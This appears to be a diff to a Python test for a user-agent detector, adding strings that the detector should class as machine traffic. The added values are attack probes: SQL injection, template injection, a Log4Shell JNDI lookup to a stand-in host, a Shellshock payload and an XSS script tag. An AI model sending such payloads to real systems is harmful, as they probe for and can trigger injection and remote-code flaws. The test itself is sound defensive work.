@@ -69,6 +69,14 @@ def test_people_of_device_detector_are_people(names: tuple[str, ...], least: int
         CHROME.replace("Chrome/", "HeadlessChrome/"),
         "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
         "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+        "-8235OR 5208=5208",
+        "{{2959082-1}}",
+        "1' OR '1'='1",
+        "${jndi:ldap://a.example/x}",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36' AND SLEEP(5)--",
+        "() { :;}; echo vulnerable",
+        "<script>alert(1)</script>",
+        "-",
     ],
 )
 def test_machine_is_a_machine(agent: str):
